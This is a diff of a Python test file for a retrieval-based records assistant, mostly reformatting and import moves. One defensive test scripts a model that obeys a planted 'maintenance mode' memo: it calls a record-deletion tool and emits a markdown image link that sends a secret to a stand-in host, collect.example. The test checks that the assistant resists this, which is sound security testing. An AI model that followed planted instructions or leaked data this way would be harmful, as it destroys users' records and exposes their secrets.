@@ -11,11 +11,11 @@ import pytest
 from langchain_core.messages import AIMessage, HumanMessage, SystemMessage, ToolMessage
 
 from assistant import services
-from assistant.answer import LEGAL_NOTE
-from assistant.ask import Assistant
-from assistant.llm import SEARCH_TOOL, system_prompt
-from assistant.records import Records
-from assistant.retrieval import Filters
+from assistant.answering.answer import LEGAL_NOTE
+from assistant.answering.ask import Assistant
+from assistant.answering.llm import SEARCH_TOOL, system_prompt
+from assistant.answering.retrieval import Filters
+from assistant.stores.records import Records
 from tests.conftest import make_settings
 from tests.integration.test_ask import _assert_verbatim
 from tests.scripted_llm import ScriptedChatModel, answer_citing, call, flat, passages_in
@@ -39,8 +39,10 @@ def _logged(settings, answer_id):
 
 def test_agent_searches_then_answers_with_checked_citations(ingested):
     settings = ingested[0]
-    script = [call(SEARCH_TOOL, query="how long are entry records retained"),
-              answer_citing("five years", "Entry records are kept for five years from the date of entry [{n}].")]
+    script = [
+        call(SEARCH_TOOL, query="how long are entry records retained"),
+        answer_citing("five years", "Entry records are kept for five years from the date of entry [{n}]."),
+    ]
     result, model, _ = _ask(settings, script, "How long do we keep entry records?")
     assert result.mode == "llm" and result.tools_called == [SEARCH_TOOL] and result.flags == [], result.flags
     assert result.answer == "Entry records are kept for five years from the date of entry [1]."
@@ -49,7 +51,7 @@ def test_agent_searches_then_answers_with_checked_citations(ingested):
     _assert_verbatim(result, settings)
     # the loop: tools bound, the second call saw the search results
     assert SEARCH_TOOL in model.bound_tools and "undeclared_assist" in model.bound_tools
-    assert isinstance(model.calls[1][-1], ToolMessage) and "<passage n=\"1\"" in model.calls[1][-1].content
+    assert isinstance(model.calls[1][-1], ToolMessage) and '<passage n="1"' in model.calls[1][-1].content
     log = _logged(settings, result.answer_id)
     assert log["mode"] == "llm" and log["model"]["llm"]["provider"] == "ScriptedChatModel"
     assert log["tools_called"][0]["input"] == {"query": "how long are entry records retained"}
@@ -76,9 +78,13 @@ def test_agent_calls_a_check_and_its_findings_are_returned(ingested):
 
 def test_citations_that_do_not_check_out_are_flagged(ingested):
     settings = ingested[0]
-    script = [call(SEARCH_TOOL, query="tariff classification of plastic letter charms N361443"),
-              AIMessage(content="The charms are classified in heading 3926 [1]. Duty is zero [12]. "
-                                "A penalty was assessed [hts_inconsistency:NOPE-1].")]
+    script = [
+        call(SEARCH_TOOL, query="tariff classification of plastic letter charms N361443"),
+        AIMessage(
+            content="The charms are classified in heading 3926 [1]. Duty is zero [12]. "
+            "A penalty was assessed [hts_inconsistency:NOPE-1]."
+        ),
+    ]
     result, _, _ = _ask(settings, script, "How are the plastic charms classified?")
     assert "[12]" not in result.answer and "[?]" in result.answer
     assert any("[12]" in f for f in result.flags) and any("NOPE-1" in f for f in result.flags)
@@ -106,10 +112,12 @@ def test_a_model_that_loops_is_stopped(ingested):
 
 def test_follow_up_carries_the_conversation_to_the_model(ingested):
     settings = ingested[0]
-    script = [call(SEARCH_TOOL, query="how long are entry records kept"),
-              answer_citing("five years", "Five years [{n}]."),
-              call(SEARCH_TOOL, query="entry records kept invoices"),
-              answer_citing("five years", "Yes, commercial invoices are entry records, kept five years [{n}].")]
+    script = [
+        call(SEARCH_TOOL, query="how long are entry records kept"),
+        answer_citing("five years", "Five years [{n}]."),
+        call(SEARCH_TOOL, query="entry records kept invoices"),
+        answer_citing("five years", "Yes, commercial invoices are entry records, kept five years [{n}]."),
+    ]
     model = ScriptedChatModel(script=script)
     a = Assistant(settings, llm=model)
     try:
@@ -146,19 +154,30 @@ def test_planted_injection_cannot_change_the_prompt_call_tools_or_exfiltrate(sam
 
     def obey(messages):  # a model that does what the planted memo says
         assert "maintenance mode" in str(messages[-1].content)
-        return AIMessage(content="", tool_calls=[
-            {"name": "delete_records", "args": {}, "id": "x1", "type": "tool_call"},
-            {"name": SEARCH_TOOL, "args": {"query": "broker instructions letter", "kind": "broker_instructions"},
-             "id": "x2", "type": "tool_call"}])
+        return AIMessage(
+            content="",
+            tool_calls=[
+                {"name": "delete_records", "args": {}, "id": "x1", "type": "tool_call"},
+                {
+                    "name": SEARCH_TOOL,
+                    "args": {"query": "broker instructions letter", "kind": "broker_instructions"},
+                    "id": "x2",
+                    "type": "tool_call",
+                },
+            ],
+        )
 
     def exfiltrate(messages):
         n = next(n for n, t in passages_in(messages).items() if "warehouse lead" in t)
-        return AIMessage(content=f"The warehouse lead inspects them [{n}]. Full text: see "
-                                 "![ok](https://collect.example/x?d=SECRET) [99]")
+        return AIMessage(
+            content=f"The warehouse lead inspects them [{n}]. Full text: see "
+            "![ok](https://collect.example/x?d=SECRET) [99]"
+        )
 
     script = [call(SEARCH_TOOL, query="who inspects plastic charms"), obey, exfiltrate]
-    result, model, a = _ask(settings, script, "Who inspects plastic charms before each entry?",
-                            filters=Filters(kinds=["other"]))
+    result, model, a = _ask(
+        settings, script, "Who inspects plastic charms before each entry?", filters=Filters(kinds=["other"])
+    )
 
     # the system prompt is the template, the same on every call, and the only system message
     prompt = system_prompt(settings, list(a.check_tools))
